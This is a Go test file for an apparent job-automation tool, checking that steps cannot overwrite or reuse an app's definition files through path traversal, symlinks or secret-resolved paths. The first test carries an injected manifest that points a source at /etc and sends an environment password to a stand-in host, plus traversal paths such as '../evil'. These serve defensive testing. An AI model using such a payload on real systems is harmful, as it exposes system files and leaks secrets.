package activities_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/jobwright/jobwright/job"
	"github.com/jobwright/jobwright/scenario"
	"github.com/jobwright/jobwright/source"
)

// An attacker with an ordinary key writes an app.yaml by Transform: a file with a single row, without header and quotes. The
// path of the source is a secret, so that only the worker knows where it leads.
func TestStepCantWriteTheDefinitionOfAnApp(t *testing.T) {
	t.Parallel()

	const attack = `SELECT '{sources: {root: {kind: FileSource, path: /etc}, other: {kind: HTTPSource, url: "http://x/$${env:PW}"}}}' a`

	for _, test := range []struct{ name, path, table string }{
		{"its own folder", ".", "app.yaml"},
		{"the folder of all apps", "..", "8/app.yaml"},
		{"a folder around it", "../..", "apps/7/app.yaml"},
		{"a new app", "../evil", "app.yaml"},
		{"its scenarios", "scenarios", "Main.yaml"},
		{"a link to its scenarios", "link", "Main.yaml"},
		{"its scripts", "scripts", "a.sql"},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()

			b := newBench(t)
			folder := filepath.Join(b.apps, "7", test.path)
			secret := filepath.Join(b.data, "secrets", "jobwright-app-7-folder")
			manifest := "sources: {out: {kind: FileSource, path: \"${file:" + secret + "}\"}, stage: {kind: SQLiteSource}}"

			b.write(t, "app.yaml", manifest)
			b.write(t, "scenarios/Main.yaml", "steps: []")
			b.write(t, "scripts/a.sql", "SELECT 1")
			require.NoError(t, os.Symlink("scenarios", filepath.Join(b.apps, "7", "link")))
			require.NoError(t, os.MkdirAll(filepath.Join(b.apps, "evil"), 0o750))
			require.NoError(t, os.MkdirAll(filepath.Dir(secret), 0o750))
			require.NoError(t, os.WriteFile(secret, []byte(folder), 0o600))

			header := false

			_, err := b.run(t, b.Transform, scenario.Transform{
				Source: "stage", Query: attack, TargetSource: "out", TargetTable: test.table,
				Writing: scenario.Writing{
					TargetFormat: source.Format{Type: "csv", Header: &header, Quote: "none", Separator: "|"},
				},
			})
			requireFailure(t, err, "source_definition_invalid", false, `source "out": its path `)

			text, err := os.ReadFile(filepath.Join(b.apps, "7", "app.yaml"))
			require.NoError(t, err)
			require.Equal(t, manifest, string(text))
			require.NoFileExists(t, filepath.Join(b.apps, "evil", "app.yaml"))
		})
	}
}

func TestStepCantUseTheDefinitionOfAnAppAsADatabase(t *testing.T) {
	t.Parallel()

	b := newBench(t)
	secret := filepath.Join(b.data, "secrets", "jobwright-app-7-file")
	manifest := "sources: {stage: {kind: SQLiteSource, path: \"${file:" + secret + "}\"}}"

	b.write(t, "app.yaml", manifest)
	require.NoError(t, os.MkdirAll(filepath.Dir(secret), 0o750))

	for _, file := range []string{"7/app.yaml", "8/app.yaml", "7/scenarios/Main.yaml"} {
		require.NoError(t, os.WriteFile(secret, []byte(filepath.Join(b.apps, file)), 0o600))

		_, err := b.run(t, b.RunSourceScript, scenario.RunSourceScript{Source: "stage", Script: "CREATE TABLE t (a)"})
		requireFailure(t, err, "source_definition_invalid", false, `source "stage": its path is `)
	}
}

func TestStepOfAnAppThatReadsItsOwnFolderFails(t *testing.T) {
	t.Parallel()

	b := newBench(t)
	b.write(t, "app.yaml", "sources: {files: {kind: FileSource}}")

	_, err := b.run(t, b.LoadTableFromSource, scenario.LoadTableFromSource{
		Source: "files", Table: "app.yaml", TargetSource: "files", TargetTable: "x.csv",
	})
	requireFailure(t, err, job.CodeAppInvalid, true, "the source files needs the option path")
}
